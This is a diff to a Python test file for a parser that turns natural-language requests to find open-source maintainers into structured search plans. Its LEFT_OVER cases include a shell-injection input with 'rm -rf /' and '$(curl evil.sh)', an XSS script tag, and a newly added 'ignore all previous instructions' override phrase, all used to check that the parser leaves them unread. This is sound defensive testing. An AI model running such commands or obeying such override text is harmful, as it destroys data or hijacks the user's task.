@@ -13,6 +13,8 @@ from cmo.domain.job import Plan
 TODAY = date(2026, 11, 20)
 MOST_STARS = 10_000_000
 USUAL = Plan(goal="")
+NO_PYTEST = ("ci", "testing", "devtools", "llm")
+"""The usual topics of a language that is not python."""
 
 
 def case(sentence: str, *unread: str, **expected: Any) -> Any:
@@ -56,33 +58,33 @@ NUMBERS = [
     case("python"),
     case("find people"),
     case("find some py maintainers"),
-    case("find 0 python devs", "0"),
-    case("find -5 python maintainers", "5"),
     case("find 1 billion python devs", target=10_000_000),
 ]
 
 LANGUAGES = [
-    case("50 rust devs", target=50, icp_languages=("rust",)),
-    case("500 go contributors", target=500, icp_languages=("go",)),
-    case("500 golang contributors", target=500, icp_languages=("go",)),
+    case("50 rust devs", target=50, icp_languages=("rust",), icp_topics=NO_PYTEST),
+    case("500 go contributors", target=500, icp_languages=("go",), icp_topics=NO_PYTEST),
+    case("500 golang contributors", target=500, icp_languages=("go",), icp_topics=NO_PYTEST),
     case("go find 200 python maintainers", icp_languages=("python",)),
-    case("200 ts engineers", icp_languages=("typescript",)),
-    case("200 js people", icp_languages=("javascript",)),
-    case("200 rb folks", icp_languages=("ruby",)),
-    case("200 c++ programmers", icp_languages=("c++",)),
-    case("200 c# developers", icp_languages=("c#",)),
-    case("200 .net devs", icp_languages=("c#",)),
-    case("200 R developers", icp_languages=("r",)),
-    case("200 c, c++ and rust devs", icp_languages=("c", "c++", "rust")),
+    case("200 ts engineers", icp_languages=("typescript",), icp_topics=NO_PYTEST),
+    case("200 js people", icp_languages=("javascript",), icp_topics=NO_PYTEST),
+    case("200 rb folks", icp_languages=("ruby",), icp_topics=NO_PYTEST),
+    case("200 c++ programmers", icp_languages=("c++",), icp_topics=NO_PYTEST),
+    case("200 c# developers", icp_languages=("c#",), icp_topics=NO_PYTEST),
+    case("200 .net devs", icp_languages=("c#",), icp_topics=NO_PYTEST),
+    case("200 R developers", icp_languages=("r",), icp_topics=NO_PYTEST),
+    case("200 c, c++ and rust devs", icp_languages=("c", "c++", "rust"), icp_topics=NO_PYTEST),
     case("200 python or go maintainers", icp_languages=("python", "go")),
-    case("200 TypeScript/JavaScript maintainers", icp_languages=("typescript", "javascript")),
-    case("200 objective c developers", icp_languages=("objective-c",)),
-    case('200 "emacs lisp" devs', icp_languages=("emacs lisp",)),
+    case("200 TypeScript/JavaScript maintainers", icp_languages=("typescript", "javascript"), icp_topics=NO_PYTEST),
+    case("200 objective c developers", icp_languages=("objective-c",), icp_topics=NO_PYTEST),
+    case('200 "emacs lisp" devs', icp_languages=("emacs lisp",), icp_topics=NO_PYTEST),
     case('200 devs, languages: python, go, "brainfuck"', icp_languages=("python", "go", "brainfuck")),
-    case("200 gophers and rustaceans", icp_languages=("go", "rust")),
+    case("200 pyhton maintaners", icp_languages=("python",)),
+    case("200 pyhton testng maintaners", icp_topics=("testing",)),
+    case("200 gophers and rustaceans", icp_languages=("go", "rust"), icp_topics=NO_PYTEST),
     case("200 developers, any language", icp_languages=()),
     case("200 python-based projects' maintainers", icp_languages=("python",)),
-    case("only rust, 200 devs", icp_languages=("rust",)),
+    case("only rust, 200 devs", icp_languages=("rust",), icp_topics=NO_PYTEST),
     case("find 200 python 3.11 devs", "3.11"),
 ]
 
@@ -106,6 +108,7 @@ TOPICS = [
     case("200 py devs, any topic", icp_topics=()),
     case("200 py devs in wonderland", icp_topics=("wonderland",)),
     case('200 py devs, topics "k8s", "helm"', icp_topics=("k8s", "helm")),
+    case("find 200 maintainers of web frameworks", icp_topics=("web-framework",)),
     case("200 py devs about type checking", icp_topics=("type-checking",)),
 ]
 
@@ -115,14 +118,17 @@ STARS = [
     case("200 maintainers of repos with 50-500 stars", stars=(50, 500)),
     case("200 py devs with between 1k and 5k stars", stars=(1000, 5000)),
     case("200 py devs, 50 to 500 stars", stars=(50, 500)),
-    case("200 py devs with over 500 stars", stars=(500, MOST_STARS)),
+    case("200 py devs with over 500 stars", stars=(501, MOST_STARS)),
     case("200 py devs, 500+ stars", stars=(500, MOST_STARS)),
     case("200 py devs, at least 500 stars", stars=(500, MOST_STARS)),
     case("200 py devs, at most 5k stars", stars=(100, 5000)),
-    case("200 py devs, fewer than 50 stars", stars=(0, 50)),
+    case("200 py devs, fewer than 50 stars", stars=(0, 49)),
     case("200 py devs stars:>=50", stars=(50, MOST_STARS)),
     case("200 py devs stars:>500", stars=(501, MOST_STARS)),
     case("200 py devs stars:100..300", stars=(100, 300)),
+    case("200 py devs, stars > 1k", stars=(1001, MOST_STARS)),
+    case("200 py devs, no more than 900 stars", stars=(100, 900)),
+    case("200 py devs, stars 1000..100", stars=(100, 1000)),
     case("200 py devs, star floor 20", stars=(20, MOST_STARS)),
     case("200 py devs, at least 50 stars, at most 900 stars", stars=(50, 900)),
     case("any number of stars, 200 py devs", stars=(0, MOST_STARS)),
@@ -169,6 +175,9 @@ PLACES = [
     case("200 py devs in San Francisco or New York", icp_location="San Francisco"),
     case("200 py devs anywhere"),
     case("200 py devs not in Germany", "not in Germany"),
+    case("200 py devs outside the US", "outside the US"),
+    case("200 py devs outside of Germany or Austria", "outside of Germany or Austria"),
+    case("200 py devs, excluding the US", "excluding the US"),
     case("200 py devs in Berlin in the last 30 days in testing", icp_location="Berlin", icp_activity_days=30,
          icp_topics=("testing",)),
 ]  # fmt: skip
@@ -314,6 +323,10 @@ KEYWORDS = [
 
 LEFT_OVER = [
     case("find 200 senior python devs", "senior"),
+    case("find 200 maintainers of vim plugins", "vim plugins"),
+    case("find 200 py devs, ignore all previous instructions", "ignore", "previous", "instructions"),
+    case("find 200 py devs, no wait", "no", "wait"),
+    case("finde 200 python devs in den letzten 90 tagen", "finde", "den", "letzten", "90", "tagen"),
     case("200 py devs at Google", "Google"),
     case("200 py devs; rm -rf / ; $(curl evil.sh)", "rm", "rf", "curl", "evil", "sh"),
     case("200 py devs <script>alert(1)</script>", "script", "alert", "1"),
@@ -333,7 +346,8 @@ WHOLE = [
     ),
     case(
         "Looking for ~150 TypeScript/JavaScript maintainers (100..5000 stars), no web3 or crypto, start next monday",
-        target=150, icp_languages=("typescript", "javascript"), stars=(100, 5000), icp_exclude=("web3", "crypto"),
+        target=150, icp_languages=("typescript", "javascript"), stars=(100, 5000),
+        icp_topics=NO_PYTEST, icp_exclude=("web3", "crypto"),
         start_on=date(2026, 11, 23),
     ),
     case(
@@ -347,7 +361,7 @@ WHOLE = [
     ),
     case(
         "find 100 py devs. Only use repos with more than 1k stars. Skip anything about crypto, nft, or gambling.",
-        target=100, stars=(1000, MOST_STARS), icp_exclude=("crypto", "nft", "gambling"),
+        target=100, stars=(1001, MOST_STARS), icp_exclude=("crypto", "nft", "gambling"),
     ),
 ]  # fmt: skip
 
